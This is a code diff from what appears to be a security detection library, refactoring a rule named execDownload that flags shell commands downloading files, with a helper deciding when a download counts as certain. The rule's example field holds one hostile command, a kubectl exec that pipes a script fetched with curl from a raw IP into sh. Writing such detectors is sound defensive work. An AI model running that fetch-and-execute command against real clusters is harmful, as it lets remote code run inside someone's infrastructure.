@@ -27,13 +27,14 @@ export const execDownload = callRule({
   falsePositives: ['Debugging tools fetched by an operator', 'Tests of egress from a cluster'],
   calls: EXECS,
   example: "kubectl exec -n shop cart-7d9f -- sh -c 'curl -s http://203.0.113.9/x.sh | sh'",
-  match: (signal) =>
-    seenInCommand(signal, (line) => {
-      const download = downloadIn(line);
-      if (download === undefined) return undefined;
-      const { host, kept } = download;
-      const does = kept ? 'fetches something to keep or run' : 'fetches and prints something';
-      const lesser = !kept || (isProgram(signal) && networkOf(host) !== 'public');
-      return { what: `${does} from ${quote(host, 253)}`, ...(lesser ? LESSER : {}) };
-    }),
+  match: (signal) => seenInCommand(signal, (line) => fetchedBy(line, isProgram(signal)), LESSER),
 });
+
+const fetchedBy = (line: string, byProgram: boolean): { what: string; certain: boolean } | undefined => {
+  const download = downloadIn(line);
+  if (download === undefined) return undefined;
+  const { host, kept } = download;
+  const does = kept ? 'fetches something to keep or run' : 'fetches and prints something';
+  const certain = kept && (!byProgram || networkOf(host) === 'public');
+  return { what: `${does} from ${quote(host, 253)}`, certain };
+};
